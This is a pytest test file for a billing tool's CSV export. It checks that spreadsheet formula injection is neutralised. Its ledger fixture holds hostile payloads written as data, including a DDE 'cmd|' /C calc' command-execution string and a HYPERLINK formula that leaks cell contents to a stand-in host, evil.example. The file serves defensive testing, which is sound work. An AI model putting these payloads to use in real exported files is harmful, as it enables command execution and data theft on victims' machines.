"""Issue 14.7: CSV formula injection (spec section 11: in CSV no cell starts a formula).

Written as the attacker would: a pull request names documents with a numbering pattern that
makes every number a formula (`={year}+{seq:04}`, `-{year}+...` for credit notes), and puts
formulas in item and time descriptions and payment references.  Every CSV textbill writes is
read back with the csv module: no cell may start with = + - @ (or tab, CR, LF, their full-width
look-alikes, or spaces before them) unless it is a plain number, and the amounts — negative
ones included — stay numbers.
"""
from __future__ import annotations

import csv
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from conftest import cli, write_ledger

from textbill.render.csv import cell, csv_text

LEDGER = r'''
company acme "Acme"
  currency USD
  numbering "={year}+{seq:04}"
  credit-numbering "-{year}+{seq:04}"

client evil "@SUM(1+1)*cmd|' /C calc'!A0"
  email ap@evil.example

sow evil/w "Work"
  hourly 100.00 USD

2026-01-05 time evil/w 1h "=cmd|' /C calc'!A0"

2026-01-10 invoice =2026+0001 evil
  item "+HYPERLINK(\"http://evil.example/?\"&A1)" 1 x 100.00
  item "-2+3" 1 x 50.00
  item "@SUM(A1:A9)" 1 x 10.00

2026-01-12 payment evil 10.00 for =2026+0001 ref "=1+1"
2026-01-13 credit-note -2026+0001 for =2026+0001 20.00 "=2+2"
'''
AS_OF = ("--as-of", "2026-03-01")
FORMULA = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


@pytest.fixture
def folder(tmp_path) -> Path:
    return write_ledger(tmp_path / "ledger", LEDGER, company=False)


def rows(text: str) -> list[dict[str, str]]:
    table = list(csv.DictReader(io.StringIO(text)))
    assert table, text
    for row in table:
        for column, value in row.items():
            if value.lstrip(" \u00a0").startswith(FORMULA):
                assert NUMBER.fullmatch(value), f"{column}={value!r} starts a formula in\n{text}"
    return table


def amounts(table, *columns) -> list[Decimal]:
    return [Decimal(row[c]) for row in table for c in columns if row[c] != ""]


def test_export_csv(folder):
    r = cli("export", "csv", "-f", folder, *AS_OF)
    assert r.code == 0, r
    table = rows(r.out)
    assert {row["ref"] for row in table} == {"'=2026+0001", "'=1+1", "'-2026+0001"}
    assert {row["invoice"] for row in table} - {""} == {"'=2026+0001"}  # one row per posting (issue 17)
    assert Decimal("-260.00") in amounts(table, "amount")  # the income posting: negative, numeric
    assert sum(amounts(table, "amount")) == 0


def test_statement_csv_to_stdout_and_to_a_file(folder, tmp_path):
    r = cli("statement", "evil", "-f", folder, "--format", "csv", *AS_OF)
    assert r.code == 0, r
    table = rows(r.out)
    assert [row["ref"] for row in table] == ["'=2026+0001", "'=1+1", "'-2026+0001"]
    assert amounts(table, "amount") == [Decimal("260.00"), Decimal("-10.00"), Decimal("-20.00")]
    out = tmp_path / "statement.csv"
    assert cli("statement", "evil", "-f", folder, "--format", "csv", "-o", out, *AS_OF).code == 0
    assert out.read_text(encoding="utf-8") == r.out


def test_invoices_csv(folder):
    r = cli("invoices", "-f", folder, "--format", "csv", *AS_OF)
    assert r.code == 0, r
    (row,) = rows(r.out)
    assert row["number"] == "'=2026+0001"
    assert amounts([row], "net", "total", "paid", "outstanding") == [Decimal(v) for v in
                                                                     ("260.00", "260.00", "10.00", "230.00")]


def test_overdue_csv(folder):
    r = cli("report", "overdue", "-f", folder, "--format", "csv", *AS_OF)
    assert r.code == 0, r
    (row,) = rows(r.out)
    assert row["invoice"] == "'=2026+0001"
    assert row["outstanding"] == "230.00" and row["days_overdue"] == "20"


def test_every_csv_of_a_build(folder, tmp_path):
    out = tmp_path / "out"
    r = cli("build", folder, "-o", out, "--format", "csv", *AS_OF)
    assert r.code == 0, r
    written = sorted(out.rglob("*.csv"))
    assert len(written) >= 4, written
    for path in written:
        rows(path.read_text(encoding="utf-8"))
    (invoice,) = out.glob("invoices/*.csv")
    lines = rows(invoice.read_text(encoding="utf-8"))
    assert [row["description"] for row in lines] == ["'=cmd|' /C calc'!A0", "'+HYPERLINK(\"http://evil.example/?\"&A1)",
                                                    "'-2+3", "'@SUM(A1:A9)"]
    assert amounts(lines, "amount") == [Decimal("100.00"), Decimal("100.00"), Decimal("50.00"), Decimal("10.00")]


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("  =1+1", "'  =1+1"), ("\uff1d1+1", "'\uff1d1+1"),
    ("-12.50", "-12.50"), ("+3", "+3"), ("-0.5", "-0.5"), ("-1e5", "'-1e5"), ("-", "'-"),
    ("Acme", "Acme"), ("a=1", "a=1"), ("", ""), (None, ""), (Decimal("-12.50"), Decimal("-12.50")), (-3, -3),
])
def test_cell(value, written):
    assert cell(value) == written


def test_csv_text_quotes_separators_and_keeps_the_column_order():
    text = csv_text(("a", "b"), [{"b": "x,y", "a": "=1"}, {"a": -1}])
    assert text == "a,b\n'=1,\"x,y\"\n-1,\n"
